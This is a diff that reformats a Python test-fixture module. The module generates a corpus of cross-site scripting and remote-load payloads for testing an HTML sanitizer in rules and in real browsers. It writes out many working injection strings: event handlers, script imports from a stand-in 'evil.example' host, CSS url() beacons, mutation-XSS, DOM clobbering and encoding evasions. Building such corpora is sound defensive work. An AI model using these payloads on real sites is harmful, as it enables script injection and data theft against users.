@@ -4,6 +4,9 @@ Every snippet either runs ``tactfulPwned()`` or asks for something under ``https
 browser takes it at its word. Used by the tests of the rules and by the tests in a real browser.
 """
 
+# Snippets are data, easier to compare when each family stands in few long lines.
+# ruff: noqa: E501, RUF001
+
 from html import escape
 from itertools import product
 from urllib.parse import quote
@@ -23,7 +26,15 @@ def _handlers() -> list[str]:
         "img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "audio src=x", "marquee",
         "iframe", "object data=x", "select autofocus", "textarea autofocus", "a href=x", "p", "table", "math",
     )  # fmt: skip
-    events = ("onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onpointerrawupdate", "onanimationend")
+    events = (
+        "onerror",
+        "onload",
+        "onfocus",
+        "ontoggle",
+        "onmouseover",
+        "onpointerrawupdate",
+        "onanimationend",
+    )
     ways = ("{e}={c}", "{e}='{c}'", '{e}="{c}"', "{E}={c}", "\n{e}\n=\n{c}", "/{e}={c}", "\x0c{e}={h}")
     plain = [f"<{element} {event}={CALL}>" for element, event in product(elements, events)]
     hidden = [
@@ -51,7 +62,7 @@ def _scripts() -> list[str]:
         f"<![CDATA[<script>{CALL}</script>]]>",
         f"<?xml version='1.0'?><script>{CALL}</script>",
         f"<script type=module>import '{EVIL}/m.js'</script>",
-        f"<script type=importmap>{{\"imports\":{{\"x\":\"{EVIL}\"}}}}</script>",
+        f'<script type=importmap>{{"imports":{{"x":"{EVIL}"}}}}</script>',
         f"<<script>{CALL}//<</script>",
         f"\ufeff<script>{CALL}</script>",
         f"＜script＞{CALL}＜/script＞<script>{CALL}</script>",
@@ -76,7 +87,7 @@ def _links() -> list[str]:
 
 def _css() -> list[str]:
     values = (
-        f"background:url({EVIL}/1)", f"background-image:url('{EVIL}/2')", f"background:URL(\"{EVIL}/3\")",
+        f"background:url({EVIL}/1)", f"background-image:url('{EVIL}/2')", f'background:URL("{EVIL}/3")',
         f"list-style:url({EVIL}/4)", f"list-style-image:url({EVIL}/5)", f"content:url({EVIL}/6)",
         f"cursor:url({EVIL}/7),auto", f"border-image:url({EVIL}/8) 30", f"mask:url({EVIL}/9)",
         f"filter:url({EVIL}/10#x)", f"shape-outside:url({EVIL}/11)", f"background:\\75rl({EVIL}/12)",
@@ -89,7 +100,7 @@ def _css() -> list[str]:
         "position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999",
         f"BACKGROUND:\nurl\n({EVIL}/26)", f"background:url&#40;{EVIL}/27&#41;", f"color:red;;background :url({EVIL}/28)",
     )  # fmt: skip
-    attributes = [f"<div style=\"{escape(value)}\">x</div>" for value in values]
+    attributes = [f'<div style="{escape(value)}">x</div>' for value in values]
     elements = [f"<style>p{{{value}}}</style><p>x" for value in values]
     sheets = [
         f"<style>@import '{EVIL}/a.css';</style>", f"<style>@im\\port url({EVIL}/b.css);</style>",
@@ -104,14 +115,14 @@ def _remote() -> list[str]:
     url = f"{EVIL}/pixel.png"
     return [
         f"<img src={url}>", f"<IMG SRC='{url}' width=1 height=1>", f"<img srcset='{url} 1x, {url}?2 2x'>",
-        f"<img src=//evil.example/p>", f"<img src='\\\\evil.example\\p'>", f"<img src=x data-remote-src='{url}'>",
+        "<img src=//evil.example/p>", "<img src='\\\\evil.example\\p'>", f"<img src=x data-remote-src='{url}'>",
         f"<img alt='<img src={url}>' src=x>", f"<img lowsrc={url}>", f"<img dynsrc={url}>", f"<image src={url}>",
         f"<picture><source srcset={url}><img></picture>", f"<video poster={url}></video>",
         f"<video><source src={url}></video>", f"<video><track default src={url}></video>", f"<audio src={url}></audio>",
         f"<body background={url}>", f"<table background={url}><tr><td background={url}>x", f"<input type=image src={url}>",
         f"<embed src={url}>", f"<object data={url}></object>", f"<applet code={url}></applet>", f"<bgsound src={url}>",
         f"<frameset><frame src={url}></frameset>", f"<iframe srcdoc='<img src={url}>'></iframe>",
-        f"<link rel=prefetch href={url}>", f"<link rel=dns-prefetch href=//evil.example>", f"<link rel=icon href={url}>",
+        f"<link rel=prefetch href={url}>", "<link rel=dns-prefetch href=//evil.example>", f"<link rel=icon href={url}>",
         f"<meta http-equiv=refresh content='0;url={url}'>", f"<base href={EVIL}/>", f"<a ping={url} href={EVIL}>x</a>",
         f"<html manifest={url}>", f"<q cite={url}>x</q>", f"<svg><image href={url} /></svg>",
         f"<svg><use href='{url}#x'/></svg>", f"<svg><feImage href={url} /></svg>",
@@ -121,38 +132,65 @@ def _remote() -> list[str]:
         f"<xml src={url}></xml>", f"<portal src={url}></portal>", f"<fencedframe src={url}></fencedframe>",
         f"<form action={url}><input name=x><button formaction='javascript:{CALL}'>x</button></form>",
         f"<isindex action='javascript:{CALL}' type=image>", f"<keygen autofocus onfocus={CALL}>",
-        f"<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9dGFjdGZ1bFB3bmVkKCk+'>", "<img src=cid:part1@mail>",
+        "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9dGFjdGZ1bFB3bmVkKCk+'>", "<img src=cid:part1@mail>",
     ]  # fmt: skip
 
 
 def _namespaces() -> list[str]:
-    carriers = ("style", "title", "textarea", "noscript", "xmp", "iframe", "noembed", "noframes", "script", "plaintext")
+    carriers = (
+        "style",
+        "title",
+        "textarea",
+        "noscript",
+        "xmp",
+        "iframe",
+        "noembed",
+        "noframes",
+        "script",
+        "plaintext",
+    )
     payload = f"<img src=x onerror={CALL}>"
-    roots = ("svg", "math", "math><mtext", "svg><desc", "svg><foreignObject", "math><annotation-xml encoding=text/html")
-    closing = [f"<{root}><{name}><a title=\"</{name}>{payload}\">" for root, name in product(roots, carriers)]
+    roots = (
+        "svg",
+        "math",
+        "math><mtext",
+        "svg><desc",
+        "svg><foreignObject",
+        "math><annotation-xml encoding=text/html",
+    )
+    closing = [f'<{root}><{name}><a title="</{name}>{payload}">' for root, name in product(roots, carriers)]
     return [*closing, *(f"<{name}></{name}>{payload}" for name in carriers)]
 
 
 def _mutations() -> list[str]:
     payload = f"<img src=x onerror={CALL}>"
     return [
-        f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;{escape(payload)}\">",
+        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;{escape(payload)}">',
         f"<form><math><mtext></form><form><mglyph><style></math>{payload}",
-        f"<svg></p><style><a id=\"</style>{payload}\">",
-        f"<math><mi></mi><mglyph><svg><mtext><textarea><path id=\"</textarea>{payload}\">",
+        f'<svg></p><style><a id="</style>{payload}">',
+        f'<math><mi></mi><mglyph><svg><mtext><textarea><path id="</textarea>{payload}">',
         f"<noscript><style></noscript>{payload}</style>",
         f"<table><caption><svg><title><style><td>{payload}</style></title></svg></caption></table>",
-        f"<p id='`{payload}`'>x", f"<a title='`onmouseover={CALL} x='>x</a>", f"<p title=\"&quot;>{payload}\">x",
+        f"<p id='`{payload}`'>x", f"<a title='`onmouseover={CALL} x='>x</a>", f'<p title="&quot;>{payload}">x',
         f"<listing>&lt;img onerror={CALL} src=x&gt;</listing>", f"<pre>\n\n{payload}</pre>",
         f"<option><style></option></select><b>{payload}</style></option>", f"<select><template><style><!--</style>{payload}",
-        f"<svg><style>&lt;/style>{escape(payload)}</style></svg>", f"<svg><![CDATA[><image xlink:href=\"]]>{payload}\">",
+        f"<svg><style>&lt;/style>{escape(payload)}</style></svg>", f'<svg><![CDATA[><image xlink:href="]]>{payload}">',
         f"<a href='x' {'a' * 50}='{payload}'>x</a>", "<div>" * 600 + payload, f"<b><p></b>{payload}<i></p></i>",
         f"<table><tr><td><table>{payload}<tr>", f"<br><{'/' * 30}{payload}", f"<a/href='javascript:{CALL}'/x>y</a>",
     ]  # fmt: skip
 
 
 def _clobbering() -> list[str]:
-    names = ("body", "cookie", "getElementById", "htmx", "location", "parentNode", "currentScript", "__proto__")
+    names = (
+        "body",
+        "cookie",
+        "getElementById",
+        "htmx",
+        "location",
+        "parentNode",
+        "currentScript",
+        "__proto__",
+    )
     return [shape.format(name) for name in names for shape in (
         "<img name={}>", "<form id={0}><input name={0}></form>", "<a id={0}><a id={0} name=href href=https://evil.example>",
         "<div hx-get=/x hx-trigger=load id={}>", "<p class={} data-hx-on:load='tactfulPwned()' contenteditable>x</p>",
@@ -168,7 +206,7 @@ def _shapes() -> list[str]:
         f"&lt;img src=x onerror={CALL}&gt;", f"&amp;lt;script&amp;gt;{CALL}", f"\ud800{payload}", f"\u202e{payload}", f"%3Cscript%3E{CALL}",
         f"+ADw-script+AD4-{CALL}+ADw-/script+AD4-", f"\x1b$B{payload}", f"{payload * 50}", f"<a b='>' c={payload}>", f"<!DOCTYPE x [<!ENTITY y '{payload}'>]>&y;",
         f"<!-- --!>{payload} -->", f"<!-->{payload}-->", f"<?php {payload} ?>", f"<%{payload}%>", f"<custom-element onclick={CALL}>x</custom-element>",
-        f"<x:y xmlns:x='http://www.w3.org/1999/xhtml' onclick={CALL}>", f"<o:p onclick={CALL}>x</o:p>", f"<v:rect style='behavior:url(#default#VML)'>",
+        f"<x:y xmlns:x='http://www.w3.org/1999/xhtml' onclick={CALL}>", f"<o:p onclick={CALL}>x</o:p>", "<v:rect style='behavior:url(#default#VML)'>",
     ]  # fmt: skip
 
 
